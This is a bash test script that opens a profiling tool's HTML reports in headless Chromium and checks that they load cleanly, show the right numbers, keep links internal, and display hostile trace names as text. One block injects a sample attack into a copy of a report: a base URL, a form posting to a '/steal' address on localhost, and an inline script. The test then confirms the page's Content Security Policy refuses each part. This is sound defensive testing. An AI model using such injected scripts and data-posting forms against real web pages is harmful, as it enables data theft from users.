#!/usr/bin/env bash
# Opens chokepoint's HTML reports in a real headless browser (Debian's chromium): each page
# must load without a script error or a blocked request, run its script (data-ready), show
# the verdict with the report's own numbers, render its charts (a screenshot that is not
# blank), have only links that lead to its own sections, stay under 2 MB, and show hostile
# names from a trace as text.
# Usage: browser_test.sh CHOKEPOINT TEST_DATA_DIR. Exits 77 (CTest: skipped) without chromium.
set -euo pipefail
exe="$1"
data="$2"
browser="${CHROMIUM:-$(command -v chromium || command -v chromium-browser || true)}"
if [[ -z "$browser" ]]; then
  echo "SKIP: no chromium on PATH (scripts/deps.sh --test installs it); the HTML is checked by report_tests only"
  exit 77
fi
work="$(mktemp -d)"
trap 'rm -rf "$work"' EXIT
export CHOKEPOINT_PROFILE=none
fail=0
bad() { echo "FAIL: $*"; fail=1; }

# The page's DOM after its script ran, and everything the browser logged.
open_page() {  # FILE -> FILE.dom, FILE.log, FILE.png
  local f="$1"
  timeout 60 "$browser" --headless --no-sandbox --disable-gpu --no-first-run --disable-extensions \
    --user-data-dir="$work/profile" --enable-logging=stderr --v=0 --virtual-time-budget=2000 \
    --dump-dom "file://$f" >"$f.dom" 2>"$f.log" || bad "chromium failed on $f: $(tail -3 "$f.log")"
  timeout 60 "$browser" --headless --no-sandbox --disable-gpu --no-first-run --disable-extensions \
    --user-data-dir="$work/profile" --hide-scrollbars --window-size=1366,900 \
    --screenshot="$f.png" "file://$f" >/dev/null 2>&1 || bad "no screenshot of $f"
}

check_page() {  # FILE WORDS...: loads cleanly and shows every word
  local f="$1"
  shift
  local size
  size=$(stat -c %s "$f")
  ((size < 2 * 1024 * 1024)) || bad "$f is $size bytes (over 2 MB)"
  if grep -Eq '(src|href)=["'"'"']?(https?:|//)' "$f"; then bad "$f refers to the network"; fi
  open_page "$f"
  grep -q 'data-ready="1"' "$f.dom" || bad "$f: the page's script did not run (no data-ready)"
  # Console errors, uncaught exceptions and requests the page's policy blocked.
  if grep -Ei 'Uncaught|CONSOLE.*(error|Refused)|Content Security Policy|ERR_' "$f.log" | grep -v 'dbus\|gpu\|GPU\|sandbox' >"$f.err"; then
    bad "$f: the browser reported: $(head -5 "$f.err")"
  fi
  for w in "$@"; do grep -qF -- "$w" "$f.dom" || bad "$f: '$w' is not on the page"; done
  # Links: every one jumps to an element of the page (nothing points outside it).
  python3 - "$f.dom" <<'PY' || bad "$f: a link leads nowhere or out of the page"
import re, sys
dom = open(sys.argv[1]).read()
ids = set(re.findall(r'\bid="([^"]+)"', dom))
links = re.findall(r'\bhref="([^"]*)"', dom)
sys.exit(0 if all(l.startswith("#") and l[1:] in ids for l in links) else 1)
PY
  python3 "$(dirname "$0")/png_not_blank.py" "$f.png" || bad "$f: the screenshot is blank"
}

# analyze: a Kineto trace (input-bound), a recording of run (live samples), hostile names.
"$exe" analyze -q --format html -o "$work/input.html" "$data/kineto/input_bound.json.gz"
"$exe" analyze -q --format json -o "$work/input.json" "$data/kineto/input_bound.json.gz"
p50=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["window"]["step_time_ms"]["p50"])' "$work/input.json")
check_page "$work/input.html" "Bound by: input" "What to change" "Where the step goes" 'class="roofline"' "Top kernels"
python3 - "$work/input.html.dom" "$p50" <<'PY' || bad "input.html: the step time p50 of the JSON report is not on the page"
import re, sys
dom, p50 = open(sys.argv[1]).read(), float(sys.argv[2])
m = re.search(r"Step time p50 <b>([0-9.,]+) ms</b>", dom)
sys.exit(0 if m and abs(float(m.group(1).replace(",", "")) - p50) <= 0.05 * p50 + 0.1 else 1)
PY
"$exe" analyze -q --format html -o "$work/live.html" "$data/live/input_bound"
check_page "$work/live.html" "Bound by:" "Live samples" "Host (" "Over time" "<polyline"
"$exe" analyze -q --format html -o "$work/hostile.html" "$data/hostile/hostile_names.json"
check_page "$work/hostile.html" "Bound by:" 'pwned'
if grep -q $'\x1b' "$work/hostile.html"; then bad "hostile.html holds a raw escape character"; fi
# Issue 47: the policy allows the page's own script and style by hash only. A script, a
# form and a base URL injected into a page (as a hostile name would try) are refused: the
# script does not run (no data-pwned), the browser logs the refusals, and the page's own
# script still runs.
python3 - "$work/input.html" "$work/injected.html" <<'PY'
import sys
page = open(sys.argv[1]).read()
evil = ('<base href="http://127.0.0.1:9/"><form id="f" action="http://127.0.0.1:9/steal" method="post">'
        '<input name="a" value="1"></form>'
        '<script>document.body.setAttribute("data-pwned", "1"); document.getElementById("f").submit();</script>')
open(sys.argv[2], "w").write(page.replace("<body>", "<body>" + evil, 1))
PY
open_page "$work/injected.html"
if grep -q 'data-pwned="1"' "$work/injected.html.dom"; then bad "injected.html: an injected inline script ran"; fi
grep -q 'data-ready="1"' "$work/injected.html.dom" || bad "injected.html: the page's own script did not run"
grep -q "form-action 'none'" "$work/input.html" || bad "input.html: its policy lets forms be sent"
grep -q "Executing inline script violates the following Content Security Policy" "$work/injected.html.log" ||
  bad "injected.html: no refusal of the injected script logged"
grep -q "base URI to 'http://127.0.0.1:9/' violates the following Content Security Policy directive: \"base-uri 'none'\"" \
  "$work/injected.html.log" || bad "injected.html: the injected base URL was not refused"
# diff: the mlp_tf32 pair (FP32 before, TF32 after).
if "$exe" diff --help >/dev/null 2>&1 && "$exe" diff --help | grep -q html; then
  "$exe" diff -q --format html -o "$work/diff.html" "$data/pairs/mlp_tf32/trace.json.gz" "$data/pairs/mlp_tf32/fixed.json.gz"
  check_page "$work/diff.html" "faster" "Promise check" "no-tensor-cores"
fi
if ((fail)); then exit 1; fi
echo "OK: every page loaded in $("$browser" --version 2>/dev/null | head -1) without errors"
